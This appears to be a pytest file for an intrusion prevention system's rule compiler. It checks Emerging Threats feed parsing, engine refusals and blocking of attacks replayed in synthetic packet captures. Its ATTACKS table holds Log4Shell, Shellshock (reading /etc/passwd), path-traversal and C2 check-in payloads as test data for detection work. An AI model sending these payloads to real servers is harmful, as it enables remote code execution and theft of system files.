"""The rule compiler with published feeds and the real engine."""

from collections.abc import Iterable
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from conversations import Conversation, write_capture
from hyperward.errors import EngineFault
from hyperward.ips.rules.check import check_rules, compile_checked
from hyperward.ips.rules.compile import compile_rules
from hyperward.ips.rules.data import starter_rules_path
from hyperward.ips.rules.lines import rules_of
from hyperward.ips.rules.options import CompileOptions
from hyperward.ips.rules.rule import LocatedRule
from hyperward.ips.rules.source import SourceRules, read_rules
from hyperward.policy.actions import Action
from shared_data import shared_data
from suricata_runs import engine, events_of_captures

EVERYTHING = CompileOptions(other=Action.TERMINATE)


@cache
def feed(name: str) -> SourceRules:
    return read_rules([shared_data(f"rules/{name}")])


@pytest.mark.shared
@pytest.mark.parametrize(
    ("name", "enabled", "commented", "refused"),
    [
        ("et-open-2025-07-28.tar.xz", 25_820, 11_436, 0),
        ("et-open-2024-04-21.tar.xz", 24_827, 10_023, 0),
        ("et-open-2017-03-10.tar.gz", 19_556, 4_350, 0),
        ("broken-feed-urlhaus-2025-07.rules", 3_510, 0, 2_853),
    ],
)
def test_feeds_are_read_whole(name: str, enabled: int, commented: int, refused: int) -> None:
    read = feed(name)
    states = [located.rule.enabled for located in read.rules]
    assert (states.count(True), states.count(False), len(read.problems)) == (enabled, commented, refused)


@pytest.mark.shared
def test_a_rule_of_a_feed_keeps_its_text() -> None:
    content = shared_data("rules/hunting-2026-05.rules").read_bytes()
    for line, found in zip(
        (line for line in content.splitlines() if line.startswith(b"alert")),
        (found for found in rules_of(content, "x") if isinstance(found, LocatedRule) and found.rule.enabled),
        strict=True,
    ):
        assert found.rule.text.encode("latin-1") == line.strip()


@pytest.mark.engine
@pytest.mark.shared
def test_the_engine_takes_all_of_a_current_feed() -> None:
    assert check_rules(compile_rules(feed("et-open-2025-07-28.tar.xz").rules, EVERYTHING), engine=engine()) == {}


@pytest.mark.engine
@pytest.mark.shared
def test_what_the_engine_refuses_of_an_old_feed_is_left_out_and_reported() -> None:
    result = compile_checked(feed("et-open-2017-03-10.tar.gz").rules, EVERYTHING, engine=engine())
    told = {problem.sid: problem for problem in result.problems}
    assert set(told) == {2015478, 2016867, 2023249}
    assert told[2016867].file == "et-open-2017-03-10.tar.gz:rules/emerging-trojan.rules"
    assert told[2016867].line == 4099
    assert 'multiple "threshold" options' in told[2016867].reason
    assert told.keys().isdisjoint(located.rule.id.sid for located in result.sources)


@pytest.mark.engine
@pytest.mark.shared
def test_a_broken_feed_gives_its_good_rules() -> None:
    read = feed("broken-feed-urlhaus-2025-07.rules")
    result = compile_checked(read.rules, EVERYTHING, engine=engine())
    assert (len(read.problems), len(result.sources), result.problems) == (2_853, 3_510, ())
    assert str(read.problems[0]) == (
        "broken-feed-urlhaus-2025-07.rules:7: sid is not a number from 1 to 4294967295 (character 224)"
    )


def parsed(*lines: str) -> list[LocatedRule]:
    return [each for each in rules_of("\n".join(lines).encode(), "f.rules") if isinstance(each, LocatedRule)]


@pytest.mark.engine
def test_refusals_find_their_rules() -> None:
    head = "alert tcp any any -> any any"
    filler = 'content:"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";' * 80  # beyond what the engine's log holds
    liar = '" from file x at line 1'.replace('"', '\\"')
    rules = parsed(
        f'{head} (msg:"good"; content:"a"; sid:1;)',
        f'{head} (msg:"unknown"; nonsense:1; sid:2;)',
        f'{head} (msg:"long"; {filler} nonsense:1; sid:3;)',
        f'{head} (msg:"long and good"; {filler} sid:4;)',
        f'{head} (msg:"{liar}"; nonsense:1; sid:5;)',
        f'{head} (msg:"p"; pcre:"/(/"; sid:6;)',
        f'{head} (msg:"\u00e9"; nonsense:1; sid:7;)',
        'alert tcp $NOWHERE any -> any any (msg:"variable"; content:"a"; sid:8;)',
        'alert nothing any any -> any any (msg:"protocol"; content:"a"; sid:9;)',
    )
    found = check_rules(compile_rules(rules, EVERYTHING), engine=engine())
    assert {number.sid for number in found} == {2, 3, 5, 6, 7, 8, 9}
    assert all(found.values())
    result = compile_checked(rules, EVERYTHING, engine=engine())
    assert [located.rule.id.sid for located in result.sources] == [1, 4]
    assert [(problem.file, problem.line) for problem in result.problems] == [
        ("f.rules", n) for n in (2, 3, 5, 6, 7, 8, 9)
    ]


@pytest.mark.engine
def test_faults_of_the_engine_are_told(tmp_path: Path) -> None:
    compiled = compile_rules(parsed('alert tcp any any -> any any (msg:"good"; content:"a"; sid:1;)'), EVERYTHING)
    with pytest.raises(EngineFault, match="cannot be started"):
        check_rules(compiled, engine=tmp_path / "no-engine")
    with pytest.raises(EngineFault, match="took more than"):
        check_rules(compiled, engine=engine(), timeout_s=0.001)
    broken = tmp_path / "broken.yaml"
    broken.write_text("%YAML 1.1\n---\nvars: [")
    with pytest.raises(EngineFault, match="without naming a rule"):
        check_rules(compiled, engine=engine(), config=broken)


def acted(events: Iterable[dict[str, Any]]) -> set[str]:
    return {
        event.get("alert", {}).get("signature", "") or event["drop"].get("reason", "")
        for event in events
        if event["event_type"] == "drop" or (event["event_type"] == "alert" and event["alert"]["action"] != "allowed")
    }


@pytest.mark.engine
@pytest.mark.shared
@pytest.mark.timeout(400)
@pytest.mark.parametrize("source", ["et-open-2025-07-28.tar.xz", "starter"])
def test_ordinary_traffic_is_never_cut(tmp_path: Path, source: str) -> None:
    captures = sorted(shared_data("benign").iterdir())
    rules = read_rules([starter_rules_path()]) if source == "starter" else feed(source)
    events = events_of_captures(compile_rules(rules.rules, CompileOptions()).text, captures, tmp_path)
    assert len(events) == len(captures) > 70
    assert {capture.name: acted(found) for capture, found in events.items() if acted(found)} == {}
    if source != "starter":  # the test would see a cut: rules that inform do fire here
        assert sum(event["event_type"] == "alert" for found in events.values() for event in found) > 10


ATTACKS = {
    "Log4Shell": ("in", 8080, "/", "${jndi:ldap://198.51.100.66:1389/a}", "", {2034647, 2034649, 2034700}),
    "Shellshock": ("in", 80, "/cgi-bin/status", "() { :; }; /bin/cat /etc/passwd", "", {2022028}),
    "traversal": ("in", 8080, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "curl/8.9.1", "", {2034125}),
    "check-in": ("out", 8080, "/geost.php?bid=hw1", "curl/8.9.1", "X-Hyperward-Test: c2-check-in\r\n", {2028661}),
    "banner": ("in", 22, "", "", "", {2101638}),
}


@pytest.mark.engine
@pytest.mark.shared
@pytest.mark.timeout(400)
def test_the_attacks_of_the_scenario_are_cut_with_a_published_feed(tmp_path: Path) -> None:
    conversations = [
        Conversation(
            version=version,
            inbound=direction == "in",
            client_port=20_000 + number,
            port=port,
            request=f"GET {path} HTTP/1.1\r\nHost: vm\r\nUser-Agent: {agent}\r\n{more}\r\n".encode()
            if path
            else b"SSH-1.0-SSH_Version_Mapper\r\n",
        )
        for version in (4, 6)
        for number, (direction, port, path, agent, more, _) in enumerate(ATTACKS.values())
    ]
    write_capture(tmp_path / "attacks.pcap", conversations)
    rules = compile_rules(feed("et-open-2025-07-28.tar.xz").rules, CompileOptions()).text
    ((_, events),) = events_of_captures(rules, [tmp_path / "attacks.pcap"], tmp_path).items()
    cut = {
        (6 if ":" in event["src_ip"] else 4, max(event["src_port"], event["dest_port"]), event["alert"]["signature_id"])
        for event in events
        if event["event_type"] == "alert" and event["alert"]["action"] == "blocked"
    }
    for version in (4, 6):
        for number, (name, attack) in enumerate(ATTACKS.items()):
            found = {sid for at, port, sid in cut if (at, port) == (version, 20_000 + number)}
            assert found >= attack[-1], f"IPv{version} {name}: {found}"
